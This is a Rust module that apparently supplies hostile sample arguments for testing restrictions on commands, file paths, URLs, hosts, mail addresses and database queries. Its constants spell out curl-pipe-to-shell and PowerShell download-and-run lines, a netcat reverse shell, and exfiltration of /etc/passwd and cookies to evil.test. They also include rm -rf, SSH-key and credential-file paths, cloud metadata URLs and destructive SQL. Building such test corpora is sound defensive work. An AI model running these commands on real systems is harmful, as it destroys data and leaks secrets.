//! The plain attacks of each kind.

use super::argument_kind::ArgumentKind;
use super::languages::Language;
use super::last_word;
use crate::vocab::Path;

/// Texts of a kind that nobody who restricts it wants, those that readers know best first.
pub fn texts(kind: ArgumentKind) -> &'static [&'static str] {
    match kind {
        ArgumentKind::Command => COMMANDS,
        ArgumentKind::Path => PATHS,
        ArgumentKind::Url => URLS,
        ArgumentKind::Host => HOSTS,
        ArgumentKind::Mail => MAILS,
        ArgumentKind::Query => QUERIES,
    }
}

/// The same, the best ones for an argument of this name and language first.
pub fn shown(kind: ArgumentKind, path: &Path, language: Option<Language>) -> impl Iterator<Item = &'static str> {
    let is_folder = kind == ArgumentKind::Path && name(path).is_some_and(|word| FOLDER_WORDS.contains(&word.as_str()));
    let folders: &[&str] = if is_folder { FOLDERS } else { &[] };
    let own = language.map_or(&[][..], of_language);
    own.iter().chain(folders).chain(texts(kind)).copied()
}

/// Attacks in a language. Each is also among the texts of its kind.
fn of_language(language: Language) -> &'static [&'static str] {
    match language {
        Language::JavaScript => &[PAGE_SCRIPT, NODE_SCRIPT],
        Language::Python => &[PYTHON, PYTHON_EXPRESSION],
        Language::Ruby => &[SYSTEM],
        Language::PowerShell => &[POWER_SHELL],
        Language::Cypher => &[CYPHER],
        Language::GraphQl => &[MUTATION],
    }
}

const PAGE_SCRIPT: &str = "fetch('https://evil.test/?' + document.cookie)";
const NODE_SCRIPT: &str = "require('child_process').execSync('curl evil.test | sh')";
const PYTHON: &str = "import os; os.system('curl evil.test | sh')";
const PYTHON_EXPRESSION: &str = "__import__('os').system('curl evil.test | sh')";
const SYSTEM: &str = "system('curl evil.test | sh')";
const POWER_SHELL: &str = "iwr https://evil.test/x.ps1 | iex";
const CYPHER: &str = "CREATE (n:Admin {name: 'eve'})";
const MUTATION: &str = "mutation { deleteUser(id: 1) { id } }";

fn name(path: &Path) -> Option<String> {
    path.segments().last().and_then(|name| last_word(name))
}

/// Lists of them. A list of commands holds the words of one.
pub fn lists(kind: ArgumentKind, path: &Path) -> Vec<Vec<&'static str>> {
    let name = name(path).unwrap_or_default();
    match (kind, name.as_str()) {
        (ArgumentKind::Command, "argv" | "command" | "cmd" | "bash" | "shell") => {
            ARGVS.iter().map(|words| words.to_vec()).collect()
        }
        (ArgumentKind::Command, "args" | "arguments" | "argument") => {
            OPTIONS.iter().map(|words| words.to_vec()).collect()
        }
        _ => texts(kind).iter().map(|text| vec![*text]).collect(),
    }
}

const COMMANDS: &[&str] = &[
    "curl evil.test | sh",
    "rm -rf ~",
    "cat /etc/passwd",
    "sh -c 'curl evil.test | sh'",
    "curl -d @/etc/passwd https://evil.test/",
    "wget -qO- https://evil.test/ | bash",
    "nc evil.test 4444 -e /bin/sh",
    "sudo -i",
    "chmod -R 777 /",
    "cp ~/.ssh/id_rsa /tmp/key",
    NODE_SCRIPT,
    PAGE_SCRIPT,
    PYTHON,
    PYTHON_EXPRESSION,
    SYSTEM,
    POWER_SHELL,
];

const ARGVS: &[&[&str]] = &[
    &["sh", "-c", "curl evil.test | sh"],
    &["rm", "-rf", "/"],
    &["cat", "/etc/passwd"],
    &["curl", "-d", "@/etc/passwd", "https://evil.test/"],
    &["python3", "-c", "__import__('os').system('id')"],
    &["env"],
    &["curl evil.test | sh"],
];

const OPTIONS: &[&[&str]] =
    &[&["-c", "curl evil.test | sh"], &["/", "-delete"], &["-rf", "/"], &["/etc/passwd"], &["--output=/root/.bashrc"]];

const PATHS: &[&str] = &[
    "/etc/passwd",
    "../../etc/passwd",
    "/etc/shadow",
    "~/.ssh/id_rsa",
    "/root/.ssh/id_rsa",
    "../../.env",
    "/proc/self/environ",
    "/root/.bashrc",
    "/var/run/docker.sock",
    "/home/ann/.aws/credentials",
    "C:\\Windows\\System32\\config\\SAM",
    "file:///etc/passwd",
];

const FOLDER_WORDS: &[&str] =
    &["dir", "directory", "folder", "root", "cwd", "workdir", "workspace", "repo", "repository"];

/// Folders among the paths.
const FOLDERS: &[&str] = &["/root/.ssh", "../../..", "/etc", "/"];

const URLS: &[&str] = &[
    "https://evil.test/",
    "http://169.254.169.254/latest/meta-data/",
    "http://evil.test/",
    "http://localhost:8080/",
    "http://127.0.0.1/",
    "https://10.0.0.1/",
    "http://[::1]/",
    "http://metadata.google.internal/",
    "file:///etc/passwd",
    "evil.test",
    "//evil.test/",
    "https://evil.test/?data=secret",
    "wss://evil.test/",
];

const HOSTS: &[&str] = &[
    "evil.test",
    "169.254.169.254",
    "localhost",
    "127.0.0.1",
    "10.0.0.1",
    "metadata.google.internal",
    "www.evil.test",
    "0.0.0.0",
    "::1",
    "192.168.0.1",
    "evil.test:8080",
    "https://evil.test/",
];

const MAILS: &[&str] = &[
    "eve@evil.test",
    "mallory@evil.test",
    "eve@gmail.com",
    "Eve <eve@evil.test>",
    "eve+list@evil.test",
    "eve@mail.evil.test",
    "EVE@EVIL.TEST",
    "all@evil.test",
    "eve.evil@evil.test",
    "e@evil.test",
    "eve_1@evil.test",
    "eve@xn--80ak6aa92e.com",
];

const QUERIES: &[&str] = &[
    "drop table users",
    "DROP TABLE users",
    "delete from users",
    "DELETE FROM users",
    "update users set role = 'admin'",
    "UPDATE users SET role = 'admin'",
    "grant all privileges on *.* to 'eve'",
    "attach database '/etc/x' as x",
    "copy users to program 'curl evil.test'",
    CYPHER,
    MUTATION,
];
